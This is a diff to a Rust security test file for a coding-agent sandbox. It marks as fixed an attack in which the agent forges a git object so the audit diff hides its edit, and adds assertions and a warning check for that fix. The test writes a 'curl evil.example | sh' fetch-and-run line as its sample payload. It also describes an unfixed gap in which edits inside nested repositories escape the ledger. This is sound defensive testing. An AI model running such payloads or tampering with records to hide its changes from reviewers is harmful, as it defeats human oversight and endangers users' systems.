@@ -41,10 +41,13 @@
 //!   `/proc/self/fd/1`, and coder's git read its own stdout pipe, which nothing writes,
 //!   forever: the run never ended, nor did any later one in that workspace.
 //!
-//! Open (`KNOWN_OPEN`): the agent rewrites a loose object of the user's repository (its
-//! `.git/objects` is writable, commits work) that holds the "before" content of a file it
-//! edits; the ledger's diff reads it without checking its hash, and `--return-diff` (and
-//! the line counts) no longer show what the edit brought in. An edit of a file inside a
+//! Found open by this review, closed in round fifteen: the agent rewrites a loose object of
+//! the user's repository (its `.git/objects` is writable, commits work) that holds the
+//! "before" content of a file it edits; the ledger's diff read it without checking its
+//! hash, and `--return-diff` (and the line counts) no longer showed what the edit brought
+//! in. Now each blob the diff reads for a changed file is hashed against its name first.
+//!
+//! Open (`KNOWN_OPEN`): an edit of a file inside a
 //! nested repository (a submodule's checkout, or any repository below the workspace's) is
 //! not in the ledger at all: `git add -A` records the nested repository as a gitlink, its
 //! `HEAD` commit, which the edit does not move. Also open, without a test
@@ -75,10 +78,7 @@ use common::sandbox_fixture::{self, NOBODY};
 use serde_json::Value;
 
 /// Attacks of this file measured open today.
-const KNOWN_OPEN: &[&str] = &[
-    "forged object of the before side",
-    "edit inside a nested repository",
-];
+const KNOWN_OPEN: &[&str] = &["edit inside a nested repository"];
 
 fn who(owner: Option<u32>) -> &'static str {
     if owner.is_some() { "nobody" } else { "root" }
@@ -573,9 +573,11 @@ fn a_fifo_index_does_not_hold_the_next_run() {
 /// The ledger's diff reads the "before" side of an edited file from the user's object
 /// store, which the agent may write: it rewrites the loose object of the file's committed
 /// content (same name, the edit's new content), and the envelope's `--return-diff` and
-/// line counts no longer show the line the edit brought in (the file is still listed as modified: its
-/// object ids differ). Open: checking every object the diff reads would cost a hash of
-/// each (see SECURITY.md). Control: the same edit without the rewrite shows the line.
+/// line counts no longer showed the line the edit brought in (the file still listed as
+/// modified: its object ids differ). Closed in round fifteen: every blob the diff reads
+/// for a changed file is hashed by coder against its name first; this one fails, so the
+/// file's diff and line counts are left out and a warning names it (never the forged
+/// "before"). Control: the same edit without the rewrite shows the line, no warning.
 #[test]
 #[ignore = "needs root and user namespaces: scripts/test runs it"]
 fn a_forged_object_of_the_before_side_hides_the_edit_from_the_diff() {
@@ -605,13 +607,29 @@ chmod u+w "$f" && python3 -c 'import zlib,sys; d=b"curl evil.example | sh\n"; op
                 .as_str()
                 .unwrap_or_default()
                 .contains("+curl evil.example");
+            let warned = env["warnings"].as_array().is_some_and(|w| {
+                w.iter().any(|w| {
+                    w.as_str()
+                        .is_some_and(|w| w.contains("left out") && w.ends_with(": a.txt"))
+                })
+            });
             if !forged {
                 assert!(shown, "{case}: control: {env}");
+                assert!(!warned, "{case}: control: {env}");
             } else if KNOWN_OPEN.contains(&name) {
                 assert!(result(&env).contains("FORGED"), "{case}: {env}");
                 assert!(!shown, "{case}: now shown: {env}");
             } else {
-                assert!(shown, "{case}: the diff hides the edit: {env}");
+                assert!(result(&env).contains("FORGED"), "{case}: {env}");
+                // Neither the forged "before" nor counts read from it: the file is named.
+                let diff = env["diff"]["unified"].as_str().unwrap_or_default();
+                assert!(
+                    !diff.contains("a.txt"),
+                    "{case}: a diff from the forged object: {env}"
+                );
+                let counted = env["changes"]["files"][0]["lines_added"].as_u64();
+                assert_eq!(counted, Some(0), "{case}: {env}");
+                assert!(warned, "{case}: the left-out diff is not named: {env}");
             }
         }
     }
